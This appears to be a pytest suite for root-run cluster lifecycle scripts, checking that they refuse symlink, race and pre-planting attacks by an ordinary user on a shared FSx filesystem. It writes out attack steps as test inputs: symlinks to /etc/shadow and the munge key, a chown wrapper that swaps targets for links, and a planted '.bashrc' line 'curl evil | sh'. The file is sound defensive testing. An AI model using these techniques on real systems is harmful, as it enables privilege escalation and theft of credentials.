"""Issue 17, item 3: the root-run lifecycle steps refuse what a cluster user plants.

Each test builds a fake controller (real ``chown``, real ``setpriv``), lets ``bob`` (uid 2002, an
ordinary cluster user) plant links, folders and keys the way a careful attacker would, runs the
steps, and checks that nothing was leaked to him, nothing he planted was adopted for another user,
and the run repaired the place with a log line. ``/fsx`` is 1777, as on a new FSx for Lustre.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.lifecycle.hyperpod_sandbox import CONTROLLER_IP, Sandbox

ALICE, BOB, UBUNTU = 2001, 2002, 1000
SHADOW = "root:$6$SECRET-SHADOW-HASH:19000:0:99999:7:::\n"
MUNGE = "SECRET-MUNGE-KEY-0123456789\n"
BOB_KEY = "ssh-ed25519 AAAAbobsplantedkey bob@evil\n"


def new_node(tmp_path: Path) -> Sandbox:
    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP)
    root = sandbox.root
    (root / "fsx").mkdir(mode=0o755)
    (root / "fsx").chmod(0o1777)  # a new FSx for Lustre: world-writable and sticky
    for path, text in (("etc/shadow", SHADOW), ("etc/munge/munge.key", MUNGE)):
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
        (root / path).chmod(0o600)
    (root / "etc/sudoers.d").mkdir(mode=0o750)
    return sandbox


def run_ok(sandbox: Sandbox, *steps: str) -> str:
    result = sandbox.run("on_create.sh", *steps)
    assert result.returncode == 0, result.stderr[-3000:]
    return result.stdout + result.stderr


def bob(sandbox: Sandbox, script: str) -> None:
    """Run a shell script as bob, in the node's root folder."""
    result = sandbox.as_user(BOB, "bash", "-c", f"set -e; cd {sandbox.root}; {script}")
    assert result.returncode == 0, result.stderr


def files_of(sandbox: Sandbox, uid: int) -> list[Path]:
    return [p for p in sandbox.root.rglob("*") if p.lstat().st_uid == uid and p.is_file() and not p.is_symlink()]


def assert_nothing_leaked(sandbox: Sandbox) -> None:
    """No file a user owns holds the shadow or munge secrets; the secrets are untouched and root's."""
    for uid in (ALICE, BOB, UBUNTU):
        for path in files_of(sandbox, uid):
            text = path.read_text(errors="replace")
            assert "SECRET" not in text, f"{path} (uid {uid}) holds a secret"
    for secret, text in (("etc/shadow", SHADOW), ("etc/munge/munge.key", MUNGE)):
        info = (sandbox.root / secret).stat()
        assert (sandbox.root / secret).read_text() == text
        assert (info.st_uid, stat.S_IMODE(info.st_mode)) == (0, 0o600)


def owner_mode(path: Path) -> tuple[int, int]:
    info = path.lstat()
    return info.st_uid, stat.S_IMODE(info.st_mode)


# --- attacks after the first run (homes exist) -------------------------------------------------


def listing(base: Path) -> dict[str, tuple[object, ...]]:
    """Everything ``cp -a`` must keep, per path under ``base``: type, owner, group, mode, link target or content
    hash, size and modification time (hard links are told apart by their link count)."""
    out: dict[str, tuple[object, ...]] = {}
    for path in [base, *sorted(base.rglob("*"))]:
        info = path.lstat()
        if stat.S_ISLNK(info.st_mode):
            what: object = f"link:{path.readlink()}"
        elif stat.S_ISREG(info.st_mode):
            what = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            what = stat.S_IFMT(info.st_mode)
        out[str(path.relative_to(base))] = (
            what,
            info.st_uid,
            info.st_gid,
            stat.S_IMODE(info.st_mode),
            info.st_nlink if not stat.S_ISDIR(info.st_mode) else 0,
            info.st_size if not stat.S_ISDIR(info.st_mode) else 0,
            info.st_mtime_ns,
        )
    return out


def restore(sandbox: Sandbox, pristine: Path) -> None:
    """Put the node back as the first run left it: the folder is removed and copied again from ``pristine``
    with ``cp -a`` (owners, modes, times, links and hard links kept), at the same path, so every absolute
    path the run wrote into its files and links still points into this node."""
    shutil.rmtree(sandbox.base)
    subprocess.run(["cp", "-a", "--", str(pristine), str(sandbox.base)], check=True)


@pytest.fixture(scope="module")
def provisioned_once() -> Iterator[tuple[Sandbox, Path, dict[str, tuple[object, ...]]]]:
    """One fake controller after its first run, a ``cp -a`` copy of it, and the node's listing at that moment.

    The first run costs seconds; each attack below starts from a copy of its result instead of running it again.
    """
    sandbox = new_node(Path("isolation"))
    run_ok(sandbox)
    before = listing(sandbox.base)
    pristine = Path(tempfile.mkdtemp(prefix="mlc-pristine-")) / "node"
    subprocess.run(["cp", "-a", "--", str(sandbox.base), str(pristine)], check=True)
    yield sandbox, pristine, before
    shutil.rmtree(pristine.parent, ignore_errors=True)


@pytest.fixture
def provisioned(provisioned_once: tuple[Sandbox, Path, dict[str, tuple[object, ...]]]) -> Sandbox:
    """A fake controller after its first run, restored from the copy: no earlier test's attack is left on it."""
    sandbox, pristine, _ = provisioned_once
    restore(sandbox, pristine)
    return sandbox


def test_a_restored_node_is_the_node_the_first_run_left(
    provisioned_once: tuple[Sandbox, Path, dict[str, tuple[object, ...]]],
) -> None:
    """The copy the attack tests start from is the provisioned node itself, file for file, after any attack."""
    sandbox, pristine, before = provisioned_once
    restore(sandbox, pristine)
    assert listing(sandbox.base) == before
    # An attack and a repair run change the node; the next restore undoes all of it.
    bob(sandbox, f"ln -sfn {sandbox.root}/etc/shadow fsx/home/bob/.ssh/authorized_keys && mkdir fsx/home/bob/x")
    run_ok(sandbox, "ssh_keys")
    assert listing(sandbox.base) != before
    restore(sandbox, pristine)
    assert listing(sandbox.base) == before
    assert len(before) > 300 and any(uid == BOB for _, uid, *_ in before.values())


def test_authorized_keys_linked_to_shadow_is_replaced_not_followed(provisioned: Sandbox) -> None:
    sandbox = provisioned
    bob(sandbox, f"ln -sfn {sandbox.root}/etc/shadow fsx/home/bob/.ssh/authorized_keys")
    log = run_ok(sandbox, "ssh_keys")
    keys = sandbox.root / "fsx/home/bob/.ssh/authorized_keys"
    assert not keys.is_symlink()
    assert keys.read_text() == sandbox.read("/fsx/.mlcluster/ssh/bob/id_ed25519.pub")
    assert owner_mode(keys) == (BOB, 0o600)
    assert "authorized_keys was a link; replaced it with a file" in log
    assert_nothing_leaked(sandbox)


def test_private_key_linked_to_the_munge_key_is_replaced_not_followed(provisioned: Sandbox) -> None:
    sandbox = provisioned
    bob(sandbox, f"ln -sfn {sandbox.root}/etc/munge/munge.key fsx/home/bob/.ssh/id_ed25519")
    run_ok(sandbox, "ssh_keys")
    key = sandbox.root / "fsx/home/bob/.ssh/id_ed25519"
    assert not key.is_symlink()
    assert key.read_text() == sandbox.read("/fsx/.mlcluster/ssh/bob/id_ed25519")
    assert_nothing_leaked(sandbox)


def test_ssh_folder_linked_to_a_system_folder_is_moved_aside(provisioned: Sandbox) -> None:
    sandbox = provisioned
    bob(sandbox, f"rm -rf fsx/home/bob/.ssh && ln -s {sandbox.root}/etc/sudoers.d fsx/home/bob/.ssh")
    log = run_ok(sandbox, "ssh_keys")
    assert list((sandbox.root / "etc/sudoers.d").iterdir()) == []  # root created nothing there
    ssh = sandbox.root / "fsx/home/bob/.ssh"
    assert not ssh.is_symlink()
    assert owner_mode(ssh) == (BOB, 0o700)
    assert "was a link or a file; moved it aside" in log
    assert_nothing_leaked(sandbox)


def test_bob_cannot_plant_in_the_key_store(provisioned: Sandbox) -> None:
    sandbox = provisioned
    result = sandbox.as_user(
        BOB, "ln", "-s", f"{sandbox.root}/etc/munge/munge.key", f"{sandbox.root}/fsx/.mlcluster/ssh/x"
    )
    assert result.returncode != 0
    assert owner_mode(sandbox.root / "fsx/.mlcluster/ssh") == (0, 0o700)
    assert owner_mode(sandbox.root / "fsx/.mlcluster/ssh/alice") == (0, 0o700)


# --- attacks before the first run (on a fresh, world-writable /fsx) -------------------------------


def test_key_store_entry_linked_to_the_munge_key_before_the_first_run(tmp_path: Path) -> None:
    sandbox = new_node(tmp_path)
    munge = sandbox.root / "etc/munge/munge.key"
    bob(sandbox, f"mkdir -p fsx/.mlcluster/ssh/bob && ln -s {munge} fsx/.mlcluster/ssh/bob/id_ed25519")
    bob(sandbox, f"ln -s {munge}.pub fsx/.mlcluster/ssh/bob/id_ed25519.pub")
    log = run_ok(sandbox)
    assert "fsx/.mlcluster is owned by uid 2002, not root; moved it aside" in log
    assert owner_mode(sandbox.root / "fsx/.mlcluster") == (0, 0o755)
    assert owner_mode(sandbox.root / "fsx/.mlcluster/ssh/bob") == (0, 0o700)
    assert "FAKE PRIVATE KEY bob@mlcluster" in sandbox.read("/fsx/home/bob/.ssh/id_ed25519")
    assert_nothing_leaked(sandbox)


def test_a_key_store_entry_for_ubuntu_planted_before_the_first_run_is_not_authorized(tmp_path: Path) -> None:
    sandbox = new_node(tmp_path)
    bob(
        sandbox,
        "mkdir -p fsx/.mlcluster/ssh/ubuntu && "
        f"printf 'bob private\\n' >fsx/.mlcluster/ssh/ubuntu/id_ed25519 && "
        f"printf '{BOB_KEY.strip()}\\n' >fsx/.mlcluster/ssh/ubuntu/id_ed25519.pub",
    )
    run_ok(sandbox)
    for user in ("ubuntu", "alice", "bob"):
        assert "bobsplantedkey" not in sandbox.read(f"/fsx/home/{user}/.ssh/authorized_keys")
    assert sandbox.read("/fsx/home/ubuntu/.ssh/authorized_keys") == sandbox.read(
        "/fsx/.mlcluster/ssh/ubuntu/id_ed25519.pub"
    )
    assert "ubuntu@mlcluster" in sandbox.read("/fsx/home/ubuntu/.ssh/authorized_keys")


def test_a_home_pre_created_under_the_world_writable_root_is_not_adopted(tmp_path: Path) -> None:
    sandbox = new_node(tmp_path)
    bob(sandbox, "mkdir -p fsx/home/alice && echo 'curl evil | sh' >fsx/home/alice/.bashrc && chmod 777 fsx/home/alice")
    log = run_ok(sandbox)
    assert "fsx/home is owned by uid 2002, not root; moved it aside" in log
    assert owner_mode(sandbox.root / "fsx/home") == (0, 0o755)
    home = sandbox.root / "fsx/home/alice"
    assert owner_mode(home) == (ALICE, 0o750)
    assert (home / ".bashrc").read_text() == "# skel bashrc\n"
    assert all(p.lstat().st_uid == ALICE for p in home.rglob("*"))
    assert_nothing_leaked(sandbox)


def test_a_home_that_is_a_link_or_someone_elses_is_moved_aside_on_a_rerun(provisioned: Sandbox) -> None:
    sandbox = provisioned
    home = sandbox.root / "fsx/home/alice"
    # Root-owned parent: only root could have done this (an old version, an operator); the run repairs it.
    home.rename(sandbox.root / "fsx/home/alice.old")
    home.symlink_to(sandbox.root / "etc")
    log = run_ok(sandbox, "homes")
    assert "fsx/home/alice is a link; moved it aside" in log
    assert owner_mode(home) == (ALICE, 0o750)
    (sandbox.root / "fsx/home/bob.x").mkdir()
    os.chown(sandbox.root / "fsx/home/bob.x", BOB, BOB)
    (sandbox.root / "fsx/home/bob").rename(sandbox.root / "fsx/home/bob.old")
    (sandbox.root / "fsx/home/bob.x").rename(sandbox.root / "fsx/home/bob")
    os.chown(sandbox.root / "fsx/home/bob", ALICE, ALICE)
    log = run_ok(sandbox, "homes")
    assert "fsx/home/bob is owned by uid 2001, not bob (2002); moved it aside" in log
    assert owner_mode(sandbox.root / "fsx/home/bob") == (BOB, 0o750)


def test_enroot_folders_pre_created_under_a_world_writable_root_are_not_adopted(tmp_path: Path) -> None:
    sandbox = new_node(tmp_path)
    nvme = sandbox.root / "opt/dlami/nvme"
    nvme.chmod(0o1777)  # a scratch volume left world-writable
    bob(sandbox, "mkdir -p opt/dlami/nvme/enroot/data/user-2001/evil && chmod -R 777 opt/dlami/nvme/enroot")
    log = run_ok(sandbox)
    assert "enroot is owned by uid 2002, not root; moved it aside" in log
    for folder in ("runtime", "cache", "data", "tmp"):
        assert owner_mode(nvme / f"enroot/{folder}") == (0, 0o755)
        mine = nvme / f"enroot/{folder}/user-{ALICE}"
        assert owner_mode(mine) == (ALICE, 0o700)
        assert list(mine.iterdir()) == []
    # And bob cannot make a folder for alice there afterwards.
    result = sandbox.as_user(BOB, "mkdir", str(nvme / "enroot/data/user-9999"))
    assert result.returncode != 0


# --- the swapped temporary file before chown ---------------------------------------------------

SWAPPING_CHOWN = r"""#!/bin/bash
# Before each real chown, bob tries to swap its target for a link to /etc/shadow.
for target in "$@"; do
  case $target in -* | *:*) continue ;; esac
  setpriv --reuid=2002 --regid=2002 --clear-groups -- \
    bash -c 'ln -sfn "$1" "$2.bob" 2>/dev/null && mv -f "$2.bob" "$2" 2>/dev/null && echo "swapped $2"' _ \
    "$MLC_ROOT/etc/shadow" "$target" >>"$STUB_STATE/swaps.log" || true
  echo "$target" >>"$STUB_STATE/chowned.log"
done
exec /usr/bin/chown "$@"
"""


def test_root_chowns_only_where_no_user_can_swap_the_target(tmp_path: Path) -> None:
    sandbox = new_node(tmp_path)
    wrapper = sandbox.bin / "chown"
    wrapper.write_text(SWAPPING_CHOWN)
    wrapper.chmod(0o755)
    run_ok(sandbox)
    chowned = (sandbox.state / "chowned.log").read_text().splitlines()
    assert len(chowned) >= 12  # homes, enroot and podman folders of three users
    swaps = sandbox.state / "swaps.log"
    assert not swaps.exists() or swaps.read_text() == ""
    for target in chowned:
        parent = Path(target).parent.lstat()
        assert parent.st_uid == 0 and not stat.S_IMODE(parent.st_mode) & 0o022, target
    assert_nothing_leaked(sandbox)


# --- ensure_user_dir refuses a parent that someone else could change ------------------------------


def ensure_user_dir(sandbox: Sandbox, parent: Path) -> subprocess.CompletedProcess[str]:
    """lib.sh's ensure_user_dir for ubuntu (uid 1000) at ``parent/ubuntu``, in the node's environment."""
    return subprocess.run(
        [
            "bash",
            "-c",
            '. "$1/lib.sh" && ensure_user_dir ubuntu "$2/ubuntu" 700',
            "_",
            str(sandbox.lifecycle),
            str(parent),
        ],
        env=sandbox.env(),
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.parametrize(
    ("owner", "mode"),
    [(0, 0o775), (0, 0o757), (0, 0o1777), (0, 0o1755), (BOB, 0o755)],
    ids=["group-writable", "world-writable", "sticky-world-writable", "sticky", "bob's"],
)
def test_ensure_user_dir_refuses_a_parent_someone_else_can_change(tmp_path: Path, owner: int, mode: int) -> None:
    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP)
    parent = sandbox.root / "srv/users"
    parent.mkdir(parents=True)
    os.chown(parent, owner, owner)
    parent.chmod(mode)
    result = ensure_user_dir(sandbox, parent)
    assert result.returncode != 0
    assert f"{parent} must be a root-owned folder that no other user can write; refusing" in result.stderr
    assert not (parent / "ubuntu").exists()


def test_ensure_user_dir_refuses_a_parent_that_is_a_link(tmp_path: Path) -> None:
    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP)
    (sandbox.root / "srv/real").mkdir(parents=True, mode=0o755)
    (sandbox.root / "srv/users").symlink_to(sandbox.root / "srv/real")
    result = ensure_user_dir(sandbox, sandbox.root / "srv/users")
    assert result.returncode != 0
    assert "must be a root-owned folder that no other user can write" in result.stderr
    assert list((sandbox.root / "srv/real").iterdir()) == []


def test_ensure_user_dir_makes_the_folder_in_a_root_only_parent(tmp_path: Path) -> None:
    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP)
    parent = sandbox.root / "srv/users"
    parent.mkdir(parents=True)
    parent.chmod(0o755)  # the edge: root-owned, writable by root alone
    result = ensure_user_dir(sandbox, parent)
    assert result.returncode == 0, result.stderr
    assert owner_mode(parent / "ubuntu") == (1000, 0o700)


def test_a_home_root_others_could_write_is_set_to_755_and_keeps_every_home(provisioned: Sandbox) -> None:
    """The home root is shared (every user's home, and possibly a mount point, which cannot be renamed): a root-owned
    one group or others could write is set to 755, not moved aside as root's private folders are (outside AWS
    review: moving it failed on a mount point and would have moved every home aside)."""
    home_root = provisioned.root / "fsx/home"
    (home_root / "alice" / "notes.txt").write_text("alice's work\n")
    home_root.chmod(0o777)
    log = run_ok(provisioned)
    assert f"set {home_root} to mode 755" in log
    assert "moved it aside" not in log
    assert owner_mode(home_root) == (0, 0o755)
    assert (home_root / "alice" / "notes.txt").read_text() == "alice's work\n"
    assert not list(home_root.parent.glob("home.mlcluster-moved-aside.*"))


def test_a_setgid_home_root_loses_the_bit_and_is_set_once(provisioned: Sandbox) -> None:
    """A root-owned home root left 2775 (setgid: new entries take its group) becomes 755, and a second run
    leaves it alone; with a plain `chmod 755`, GNU chmod keeps the bit, so every run said "set ... to mode 755"
    and the folder stayed 2755."""
    home_root = provisioned.root / "fsx/home"
    home_root.chmod(0o2775)
    assert f"set {home_root} to mode 755" in run_ok(provisioned)
    assert owner_mode(home_root) == (0, 0o755)
    assert f"set {home_root}" not in run_ok(provisioned)
